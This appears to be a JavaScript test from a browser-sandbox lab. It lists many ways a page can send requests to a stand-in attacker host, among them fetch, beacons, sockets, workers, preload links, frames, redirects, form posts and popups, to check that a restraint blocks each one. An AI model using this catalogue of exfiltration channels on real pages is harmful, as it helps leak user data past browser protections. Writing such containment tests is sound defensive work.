// What the evil site would see if nothing held: the same ways out, taken by a
// page that nothing restrains.
"use strict";

lab.attack("ways out", async () => {
  const target = `${lab.evil}/stolen/`;
  const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
  await lab.tell(() => fetch(target + "fetch", { mode: "no-cors" }).then(() => ""), 1500);
  await lab.tell(() => lab.load("img", { src: target + "img" }), 1500);
  await lab.tell(() => lab.load("script", { src: target + "script.js" }), 1500);
  await lab.tell(() => import(target + "import.mjs").then(() => ""), 1500);
  navigator.sendBeacon(target + "beacon", "x");
  const x = new XMLHttpRequest();
  x.open("GET", target + "xhr");
  x.send();
  new WebSocket(target.replace("http:", "ws:") + "ws").onerror = () => {};
  new EventSource(target + "events").onerror = (e) => e.target.close();
  new Worker(target + "worker.js").onerror = () => {};
  add("link", { rel: "stylesheet", href: target + "style.css" });
  add("link", { rel: "prefetch", href: target + "prefetch" });
  add("link", { rel: "preload", as: "image", href: target + "preload" });
  add("link", { rel: "modulepreload", href: target + "module" });
  add("video", { src: target + "video" });
  add("object", { data: target + "object" });
  add("iframe", { src: target + "frame" });
  // Of documents that take themselves away: each is a frame here.
  for (const [way, text] of Object.entries({
    location: `<script>location.href = "${target}location"</script>`,
    replace: `<script>location.replace("${target}replace")</script>`,
    click: `<a href="${target}click"></a><script>document.querySelector("a").click()</script>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${target}refresh">`,
    form: `<form action="${target}form" method="post"></form><script>document.forms[0].submit()</script>`,
  })) add("iframe", { name: way, srcdoc: `<!doctype html>${text}` });
  const popup = window.open(target + "popup");
  await lab.sleep(2000);
  popup?.close();
  return {};
});
